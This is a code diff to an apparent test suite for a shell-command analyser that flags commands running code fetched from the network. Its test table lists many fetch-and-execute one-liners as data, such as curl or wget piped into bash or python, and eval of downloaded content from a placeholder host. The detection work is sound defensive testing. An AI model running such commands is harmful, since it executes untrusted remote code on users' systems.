@@ -115,7 +115,9 @@ describe('network', () => {
     ['curl https://a.example | sudo bash -s -- x', 'a.example'],
     ['wget -qO- https://a.example | python3', 'a.example'],
     ['bash <(curl -s https://a.example)', 'a.example'],
-    ['bash -c "$(curl -s https://a.example)"', undefined],
+    ['bash -c "$(curl -s https://a.example)"', 'a.example'],
+    ['eval "$(wget -qO- https://a.example)"', 'a.example'],
+    ['python3 -c "$(curl https://a.example)"', 'a.example'],
     ['curl https://a.example -o x; sh x', 'a.example'],
     ['curl -O https://a.example/x && bash x', 'a.example'],
     ['wget https://a.example/x; chmod +x x; ./x', 'a.example'],
@@ -123,8 +125,7 @@ describe('network', () => {
     ['curl https://a.example | tee x | sh', 'a.example'],
   ])('%j runs what it fetched', (command, host) => {
     const [found] = effects(command, 'execute').filter((effect) => effect.from === 'network');
-    if (host !== undefined) expect(found?.host).toBe(host);
-    else expect(effects(command, 'network')).toHaveLength(1);
+    expect(found?.host).toBe(host);
   });
 });
 
